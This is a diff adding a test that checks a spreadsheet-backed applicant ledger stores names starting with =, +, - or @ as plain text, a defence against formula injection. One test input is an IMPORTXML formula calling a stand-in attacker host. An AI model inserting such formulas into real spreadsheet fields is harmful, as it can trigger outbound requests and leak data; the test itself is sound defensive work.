@@ -187,4 +187,18 @@ describe("lifecycle actions against the emulator", function () {
     await expectUserError(f.run.formula("StartVetting", [f.ledger, "W-42"], f.team.lead), /no worker W-000042/);
     await expectUserError(f.run.formula("StartVetting", ["https://docs.google.com/spreadsheets/d/1NoSuchSpreadsheet00000000000000/edit", "W-1"], f.team.lead), /could not find/);
   });
+
+  it("stores and shows text that starts with =, +, - or @ as text, never as a formula or a number", async () => {
+    const names = ['=IMPORTXML("https://evil.example","//a")', "+1 555 0100", "-42", "@SUM(A1:A9)"];
+    for (const [i, name] of names.entries()) {
+      await f.run.formula("AddApplicant", [f.ledger, name, `t${i}@example.org`, "MX"], f.team.specialist);
+    }
+    const book = f.emu.state.spreadsheets.get(f.spreadsheetId);
+    const sheet = book?.sheets.find((s) => s.properties.title === "Workers");
+    const col = (sheet?.rows[0] ?? []).indexOf("Name");
+    expect(sheet?.rows.slice(1).map((r) => r?.[col])).to.deep.equal(names);
+    expect(sheet?.formulas.size).to.equal(0);
+    const synced = await f.run.sync<Worker>("Workers", [f.ledger], f.team.viewer);
+    expect(synced.rows.map((r) => r.Name)).to.deep.equal(names);
+  });
 });
